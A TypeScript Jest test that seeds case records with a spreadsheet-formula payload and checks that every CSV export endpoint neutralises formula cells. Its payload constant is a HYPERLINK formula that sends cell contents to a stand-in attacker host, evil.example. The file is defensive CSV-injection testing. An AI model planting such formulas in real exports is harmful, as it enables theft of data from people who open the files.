import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sessionFor } from '../../support/session.js';
import { startApi } from '../../support/api.js';
import { type CasesUnderTest, givenCases } from '../../support/given.js';
import { people, type Step, stepsTo } from '../../support/journey.js';

/** Formulas written wherever a text can be written, and every table that comes out. */

const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her");@SUM(1);+1,-2';
let given: CasesUnderTest;
let api: Awaited<ReturnType<typeof startApi>>;
const cookies = new Map<keyof typeof people, string>();

beforeAll(async () => {
  given = await givenCases();
  const id = await given.cases.create(people.applicant, { language: 'nb' });
  let version = 1;
  for (const step of stepsTo('received')) version = await given.give(id, version, armed(step));
  api = await startApi(given.databaseUrl);
  for (const [key, { personId }] of Object.entries(people)) {
    if (personId === null) continue;
    const token = await sessionFor(given.db.pool, personId);
    cookies.set(key as keyof typeof people, `tilgang-session=${token}`);
  }
}, 60_000);
afterAll(async () => {
  await api?.close();
  await given?.close();
});

describe('a formula in every text', () => {
  it('is a text in every table that anybody may take out [R16.0.5]', async () => {
    const document = (await (await fetch(`${api.url}/api/v1/openapi.json`)).json()) as {
      paths: Record<
        string,
        { get?: { parameters?: { name: string; schema?: { enum?: string[] } }[] } }
      >;
    };
    const addresses = Object.entries(document.paths).flatMap(([path, { get }]) => {
      if (!get) return [];
      if (path.endsWith('.csv')) return [path];
      const formats = get.parameters?.find(({ name }) => name === 'format')?.schema?.enum ?? [];
      return formats.includes('csv') ? [`${path}?format=csv`] : [];
    });
    expect(addresses.length).toBeGreaterThanOrEqual(6);
    const ids = await idsFor();
    let tables = 0;
    let cells = 0;
    let texts = 0;
    for (const address of addresses) {
      for (const path of filled(address, ids)) {
        for (const cookie of cookies.values()) {
          const answer = await fetch(`${api.url}${path}`, { headers: { cookie } });
          if (answer.status !== 200) continue;
          tables += 1;
          const table = await answer.text();
          cells += refuseFormulas(path, table);
          texts += table.split('HYPERLINK').length - 1;
        }
      }
    }
    process.stderr.write(
      `exports: ${addresses.length} addresses, ${tables} tables, ${cells} cells\n`,
    );
    expect(tables).toBeGreaterThan(20);
    // It got as far as the tables: otherwise they would show nothing.
    expect(texts).toBeGreaterThan(20);
  }, 60_000);
});

/** Fails on a cell that a spreadsheet takes for a formula, cut at commas, semicolons or tabs. */
function refuseFormulas(path: string, text: string): number {
  let cells = 0;
  for (const delimiter of [',', ';', '\t']) {
    const rows = parse(text, {
      ...{ delimiter, bom: true, relax_column_count: true, relax_quotes: true },
    });
    for (const cell of rows.flat()) {
      cells += 1;
      const isNumber = /^[+-]?\d+(?:[.,]\d+)?$/.test(cell);
      if (!isNumber)
        expect([path, delimiter, cell]).not.toEqual([
          path,
          delimiter,
          expect.stringMatching(/^[=+\-@\t\r]/),
        ]);
    }
  }
  return cells;
}

async function idsFor(): Promise<Record<string, string[]>> {
  const column = async (sql: string) =>
    (await given.owner.pool.query<{ id: string }>(sql)).rows.map(({ id }) => id);
  return {
    id: await column('SELECT id::text FROM access_case'),
    deliveryId: await column(
      `SELECT DISTINCT jsonb_object_keys(tracks->'delivery') AS id FROM access_case WHERE tracks ? 'delivery'`,
    ),
    registryId: await column('SELECT unnest(registry_ids) AS id FROM access_case'),
    unitId: await column('SELECT id FROM unit'),
    name: await reportNames(),
  };
}

async function reportNames(): Promise<string[]> {
  const names: string[] = [];
  for (const path of ['/api/v1/statistics', '/api/v1/public/statistics']) {
    const answer = await fetch(api.url + path, { headers: { cookie: cookies.get('leader')! } });
    names.push(
      ...[...(await answer.text()).matchAll(/"name":"([a-z-]+)"/g)].map(([, name]) => name!),
    );
  }
  return [...new Set(names)];
}

/** The address with each id in it that there is. */
function filled(address: string, ids: Record<string, string[]>): string[] {
  const name = /\{(\w+)\}/.exec(address)?.[1];
  if (!name) return [address];
  return (ids[name] ?? []).flatMap((id) => filled(address.replace(`{${name}}`, id), ids));
}

function armed(step: Step): Step {
  return { ...step, command: withFormulas(step.command) as Step['command'] };
}

function withFormulas(value: unknown, key = ''): unknown {
  if (Array.isArray(value)) return value.map((each) => withFormulas(each, key));
  if (typeof value === 'object' && value !== null) {
    return Object.fromEntries(
      Object.entries(value).map(([name, inner]) => [name, withFormulas(inner, name)]),
    );
  }
  const isFree =
    /^(title|reason|facts|considerations|statement|summary|question|purpose|laySummary|institutionName|justification|affiliation|jobTitle|text)$/.test(
      key,
    );
  return typeof value === 'string' && isFree ? `${formula} ${value}`.slice(0, 290) : value;
}
